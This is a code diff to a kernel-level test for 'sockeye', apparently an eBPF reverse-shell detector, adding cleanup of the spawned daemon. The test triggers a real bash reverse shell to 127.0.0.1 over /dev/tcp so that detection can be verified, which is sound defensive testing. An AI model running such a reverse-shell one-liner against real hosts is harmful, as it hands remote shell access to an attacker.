@@ -2,7 +2,7 @@
  * `sockeye run` as users run it: a child process, "ready" on stderr, a finding on stdout for a
  * real reverse shell, SIGTERM → exit 0 with no sockeye program left in the kernel.
  */
-import { describe, expect, it } from "vitest";
+import { afterEach, describe, expect, it } from "vitest";
 import { spawn } from "node:child_process";
 import { bpftoolPrograms, kernelTier, programsLoadedSince, run, tcpListener } from "./harness.js";
 
@@ -10,14 +10,21 @@ const tier = kernelTier();
 const OUR_PROGRAMS = ["handle_dup2_exit", "handle_exec", "handle_connect_exit"];
 
 describe.runIf(tier.run)("kernel: sockeye run", () => {
+  let daemon: ReturnType<typeof spawn> | undefined;
+  // A failed test must not leave its daemon running (and holding the instance lock).
+  afterEach(() => {
+    if (daemon?.exitCode === null) daemon.kill("SIGKILL");
+  });
+
   it("ready, a finding for a real reverse shell, then a clean SIGTERM", async () => {
     const before = bpftoolPrograms();
-    const daemon = spawn(process.execPath, ["dist/cli/main.js", "run"], { stdio: ["ignore", "pipe", "pipe"] });
+    const child = spawn(process.execPath, ["dist/cli/main.js", "run"], { stdio: ["ignore", "pipe", "pipe"] });
+    daemon = child;
     let stdout = "", stderr = "";
-    daemon.stdout.on("data", (d) => (stdout += d));
+    child.stdout.on("data", (d) => (stdout += d));
     const ready = new Promise<void>((resolve, reject) => {
-      daemon.stderr.on("data", (d) => { stderr += d; if (stderr.includes("ready")) resolve(); });
-      daemon.on("exit", (code) => reject(new Error(`exited ${code} before ready: ${stderr}`)));
+      child.stderr.on("data", (d) => { stderr += d; if (stderr.includes("ready")) resolve(); });
+      child.on("exit", (code) => reject(new Error(`exited ${code} before ready: ${stderr}`)));
     });
     await ready;
     const ours = programsLoadedSince(before);
@@ -28,8 +35,8 @@ describe.runIf(tier.run)("kernel: sockeye run", () => {
     await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
     await new Promise((r) => setTimeout(r, 500));
 
-    const exited = new Promise<number | null>((resolve) => daemon.on("exit", (code) => resolve(code)));
-    daemon.kill("SIGTERM");
+    const exited = new Promise<number | null>((resolve) => child.on("exit", (code) => resolve(code)));
+    child.kill("SIGTERM");
     expect(await exited).toBe(0);
     await catcher.close();
 
